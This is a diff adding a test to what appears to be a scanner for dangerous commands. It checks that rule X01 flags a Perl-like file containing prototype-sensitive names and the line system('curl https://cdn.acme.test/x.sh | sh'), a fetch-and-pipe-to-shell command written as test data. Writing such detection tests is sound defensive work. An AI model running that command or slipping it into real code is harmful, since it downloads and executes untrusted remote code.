@@ -243,6 +243,14 @@ describe('a program in a string', () => {
   });
 });
 
+describe('a language without a parser', () => {
+  it('is read whatever its names are', async () => {
+    const names = ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf'];
+    const text = `my $x = "a\\" b;\n${names.join(' ')};\nsystem("curl https://cdn.acme.test/x.sh | sh");\n`;
+    expect(rulesOf(await lookAt('a.pl', text))).toContain('X01');
+  });
+});
+
 describe('a command after hundreds of harmless ones', () => {
   it('is seen in a file that no parser knows', async () => {
     const harmless = 'shell curl -I https://a.test/\n'.repeat(300);
